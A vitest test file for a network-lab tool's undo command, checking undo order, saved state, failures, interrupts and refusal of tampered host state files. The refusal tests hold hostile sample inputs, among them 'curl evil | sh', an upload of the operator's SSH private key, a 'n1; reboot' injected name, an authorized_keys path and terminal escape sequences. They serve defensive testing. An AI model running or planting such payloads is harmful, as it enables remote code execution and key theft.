import { describe, expect, it } from "vitest";
import { undoLab } from "../../src/apply/down.js";
import { otherLabsCommand } from "../../src/plan/undo.js";
import { type HostState } from "../../src/apply/state.js";
import { FakeTransport } from "../helpers/fake-transport.js";
import { lab, STATE, recorder } from "./engine-fixtures.js";

/** lab down's undo, driven through fake transports: order, state kept, refusals, faults. */
describe("undoLab", () => {
  // Each undo is a typed record; promisc-off builds one plain command per record: "ip link set <dev> promisc off".
  const entry = (id: string, ...devs: string[]): HostState["changed"][number] => ({
    id,
    title: `title ${id}`,
    undo: devs.map((dev) => ({ kind: "promisc-off" as const, dev })),
    at: "t",
  });
  const off = (dev: string) => `ip link set ${dev} promisc off`;
  const stateWith = (...changed: HostState["changed"]): HostState => ({
    lab: "eng",
    id: "eng-lab-1",
    version: 3,
    updatedAt: "t",
    changed,
  });
  const READ = "if [ -e /var/lib/lab/eng.json ]; then cat /var/lib/lab/eng.json; fi";
  const CAT = /^if \[ -e \/var\/lib\/lab\/eng\.json \]; then cat /;
  const REMOVE = "rm -rf /var/lib/lab/eng.json /var/lib/lab/eng.backup; rmdir /var/lib/lab 2>/dev/null || true";
  const LOCK = /^mkdir -p \/var\/lib\/lab && /;
  const OTHERS = otherLabsCommand("eng");
  /** Commands other than taking the host's lock (each fake grants it) and asking for other labs (none). */
  const cmds = (f: FakeTransport) => f.commands.filter((c) => !LOCK.test(c) && c !== OTHERS);
  const undo = async (fakes: FakeTransport[], signal?: AbortSignal) => {
    for (const f of fakes) f.on(LOCK, { stdout: "--locked\n" });
    const { emit, rec } = recorder();
    const outcomes = await undoLab(lab, new Map(fakes.map((f) => [f.host, f])), {
      parallel: 4,
      emit,
      commandTimeoutMs: 5000,
      signal,
    });
    return { outcomes, rec };
  };
  const savedStates = (fake: FakeTransport) =>
    fake.writes
      .filter((w) => w.command === STATE)
      .map((w) => (JSON.parse(w.stdin!) as HostState).changed.map((c) => c.id));

  it("leaves a host-wide setting (promisc) as it is while another lab keeps state on the host, and says so", async () => {
    const fake = new FakeTransport("a")
      .on(CAT, { stdout: JSON.stringify(stateWith(entry("e1", "ens33"))) })
      .on(/^for f in \/var\/lib\/lab\/\*\.json/, { stdout: "t-other\n" });
    const { outcomes, rec } = await undo([fake]);
    expect(fake.commands).toContain(OTHERS);
    expect(cmds(fake)).toEqual([READ, REMOVE]);
    expect(outcomes).toEqual([{ host: "a", undone: 1, failed: [] }]);
    expect(rec.notes).toContain(
      "a: title e1: left as it is, since lab t-other also keeps state on this host (undo it by hand once no lab needs it)",
    );
  });

  it("undoes newest first, each record in order, saving the state after each entry, then removes it", async () => {
    const fake = new FakeTransport("a").on(CAT, {
      stdout: JSON.stringify(stateWith(entry("e1", "u1a", "u1b"), entry("e2", "u2"), entry("e3", "u3"))),
    });
    const { outcomes, rec } = await undo([fake]);
    expect(cmds(fake)).toEqual([READ, off("u3"), off("u2"), off("u1a"), off("u1b"), REMOVE]);
    // Stopped at any point, a later lab down continues from what is left.
    expect(savedStates(fake)).toEqual([["e1", "e2"], ["e1"]]);
    expect(outcomes).toEqual([{ host: "a", undone: 3, failed: [] }]);
    expect(rec.undos.map((u) => `${u.title} ${u.status}`)).toEqual([
      "title e3 undone",
      "title e2 undone",
      "title e1 undone",
    ]);
  });

  it("keeps a failed entry in the state, reports it, and still undoes the rest", async () => {
    const fake = new FakeTransport("a")
      .on(CAT, { stdout: JSON.stringify(stateWith(entry("e1", "u1"), entry("e2", "u2a", "u2b"), entry("e3", "u3"))) })
      .failOn(/ u2a /, { code: 4, stderr: "Cannot find device\n" });
    const { outcomes, rec } = await undo([fake]);
    // the failed entry's later records are not run; older entries still are
    expect(cmds(fake).slice(1)).toEqual([off("u3"), off("u2a"), off("u1")]);
    expect(cmds(fake)).not.toContain(REMOVE);
    expect(outcomes).toEqual([
      {
        host: "a",
        undone: 2,
        failed: [{ id: "e2", title: "title e2", message: `${off("u2a")}: exit 4: Cannot find device` }],
      },
    ]);
    expect(savedStates(fake).at(-1)).toEqual(["e2"]);
    expect(rec.undos.find((u) => u.status === "failed")).toEqual({
      host: "a",
      title: "title e2",
      status: "failed",
      detail: `${off("u2a")}: exit 4: Cannot find device`,
    });
  });

  it("an object already gone counts as undone (a lab down that stopped half-way, or a host changed by hand)", async () => {
    const gone: HostState["changed"][number] = {
      id: "ns",
      title: "netns n1",
      undo: [{ kind: "delete-netns", netns: "n1" }],
      at: "t",
    };
    const fake = new FakeTransport("a")
      .on(CAT, { stdout: JSON.stringify(stateWith(gone)) })
      .on(/^\[ ! -e \/run\/netns\/n1 \]$/, { code: 0 });
    const { outcomes } = await undo([fake]);
    expect(outcomes).toEqual([{ host: "a", undone: 1, failed: [] }]);
    expect(cmds(fake)).not.toContain("ip netns del n1");
  });

  it("with nothing recorded, says so and removes the state", async () => {
    const fake = new FakeTransport("a"); // cat prints nothing: no state file
    const { outcomes, rec } = await undo([fake]);
    expect(outcomes).toEqual([{ host: "a", undone: 0, failed: [] }]);
    expect(rec.notes).toEqual(["a: nothing to undo: the lab changed nothing here"]);
    expect(cmds(fake).at(-1)).toBe(REMOVE);
  });

  it("each host is undone from its own state", async () => {
    const a = new FakeTransport("a").on(CAT, { stdout: JSON.stringify(stateWith(entry("x", "ua"))) });
    const b = new FakeTransport("b")
      .on(CAT, { stdout: JSON.stringify(stateWith(entry("y", "ub1"), entry("z", "ub2"))) })
      .failOn(/ ub1 /);
    const { outcomes } = await undo([a, b]);
    expect(outcomes.map((o) => [o.host, o.undone, o.failed.map((f) => f.id)])).toEqual([
      ["a", 1, []],
      ["b", 1, ["y"]],
    ]);
    expect(cmds(a).slice(1)).toEqual([off("ua"), REMOVE]);
    expect(cmds(b).slice(1)).toEqual([off("ub2"), off("ub1")]);
  });

  it("Ctrl-C (an aborted signal) stops before the next entry; what is left stays recorded", async () => {
    const abort = new AbortController();
    const fake = new FakeTransport("a")
      .on(CAT, { stdout: JSON.stringify(stateWith(entry("e1", "u1"), entry("e2", "u2"))) })
      .on(/ u2 /, () => (abort.abort(), {}));
    const { outcomes } = await undo([fake], abort.signal);
    expect(outcomes).toEqual([{ host: "a", undone: 1, failed: [], interrupted: true }]);
    expect(cmds(fake)).not.toContain(off("u1"));
    expect(savedStates(fake).at(-1)).toEqual(["e1"]);
  });

  describe("a host's state file is data, never code", () => {
    const refusedHost = (text: string) => new FakeTransport("evil").on(CAT, { stdout: text });
    const hostile: Record<string, unknown> = {
      "a command string (the old format)": {
        lab: "eng",
        version: 1,
        updatedAt: "t",
        changed: [{ id: "x", title: "x", undo: [{ kind: "run", command: "curl evil | sh" }], at: "t" }],
      },
      "an upload of the operator's key": {
        lab: "eng",
        id: "eng-lab-1",
        version: 3,
        updatedAt: "t",
        changed: [
          { id: "x", title: "x", undo: [{ kind: "upload", from: "~/.ssh/id_ed25519", to: "cat > /tmp/k" }], at: "t" },
        ],
      },
      "a run record": {
        lab: "eng",
        id: "eng-lab-1",
        version: 3,
        updatedAt: "t",
        changed: [{ id: "x", title: "x", undo: [{ kind: "run", command: "id" }], at: "t" }],
      },
      "a name outside the lab grammar": {
        lab: "eng",
        id: "eng-lab-1",
        version: 3,
        updatedAt: "t",
        changed: [{ id: "x", title: "x", undo: [{ kind: "delete-netns", netns: "n1; reboot" }], at: "t" }],
      },
      "a file lab never writes": {
        lab: "eng",
        id: "eng-lab-1",
        version: 3,
        updatedAt: "t",
        changed: [
          { id: "x", title: "x", undo: [{ kind: "restore-file", path: "/root/.ssh/authorized_keys" }], at: "t" },
        ],
      },
      "terminal escapes in an unknown key":
        '{"lab":"eng","id":"eng-lab-1","version":3,"updatedAt":"t","changed":[],"\\u001b]52;c;eA==\\u0007":1}',
      "terminal escapes in text that is not JSON": "\u001b[2J{",
      "terminal escapes in a title": {
        lab: "eng",
        id: "eng-lab-1",
        version: 3,
        updatedAt: "t",
        changed: [{ id: "x", title: "\u001b]0;pwned\u0007", undo: [], at: "t" }],
      },
      "another lab's state": { lab: "other", id: "eng-lab-1", version: 3, updatedAt: "t", changed: [] },
      "a state without a lab id (version 2)": { lab: "eng", version: 2, updatedAt: "t", changed: [] },
      "not JSON": "{ not json",
    };
    for (const [what, content] of Object.entries(hostile)) {
      it(`refuses ${what}: nothing runs on that host, the others go on`, async () => {
        const evil = refusedHost(typeof content === "string" ? content : JSON.stringify(content));
        const good = new FakeTransport("good").on(CAT, { stdout: JSON.stringify(stateWith(entry("e", "g1"))) });
        const { outcomes } = await undo([evil, good]);
        expect(cmds(evil)).toEqual([READ]);
        expect(evil.released).toHaveLength(1);
        expect(evil.writes).toEqual([]);
        expect(outcomes[0]).toMatchObject({
          host: "evil",
          undone: 0,
          failed: [],
          refused: expect.stringMatching(/^\/var\/lib\/lab\/eng\.json is refused \(.+\); nothing was run on this host/),
        });
        expect(outcomes[0]!.refused).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
        expect(outcomes[1]).toEqual({ host: "good", undone: 1, failed: [] });
      });
    }
  });

  it("another lab with the same name (another id) on one host: nothing is undone there, the other hosts go on", async () => {
    const theirs = new FakeTransport("shared").on(CAT, {
      stdout: JSON.stringify({ ...stateWith(entry("e", "theirs")), id: "someone-elses" }),
    });
    const good = new FakeTransport("good").on(CAT, { stdout: JSON.stringify(stateWith(entry("e", "g1"))) });
    const { outcomes } = await undo([theirs, good]);
    expect(cmds(theirs)).toEqual([READ]);
    expect(theirs.writes).toEqual([]);
    expect(outcomes[0]!.refused).toBe(
      "another lab named eng is on this host (id someone-elses; this lab file has id eng-lab-1); nothing was run on this host. Take that lab down with its own lab file, or give this lab another name",
    );
    expect(outcomes[1]).toEqual({ host: "good", undone: 1, failed: [] });
  });

  it("a lab file without an id never undoes a lab recorded with one: it is told the id to add", async () => {
    const fake = new FakeTransport("a")
      .on(LOCK, { stdout: "--locked\n" })
      .on(CAT, { stdout: JSON.stringify(stateWith(entry("e", "u"))) });
    const { emit } = recorder();
    const outcomes = await undoLab({ name: "eng", file: lab.file }, new Map([["a", fake]]), {
      parallel: 1,
      emit,
      commandTimeoutMs: 5000,
    });
    expect(cmds(fake)).toEqual([READ]);
    expect(outcomes[0]!.refused).toBe(
      "the lab eng on this host has id eng-lab-1 and this lab file has none; nothing was run on this host. If it is that lab, add `id: eng-lab-1` under name: in the lab file",
    );
  });

  it("a host where the state cannot be read (sudo refused) is a failure, not 'nothing to undo'", async () => {
    const fake = new FakeTransport("a").failOn(/./, { code: 1, stderr: "sudo: a password is required\n" });
    const { outcomes, rec } = await undo([fake]);
    expect(rec.notes.join("\n")).not.toContain("nothing to undo");
    expect(outcomes[0]!.refused).toMatch(/cannot take the lock \/var\/lib\/lab\/lock: sudo: a password is required/);
  });
});
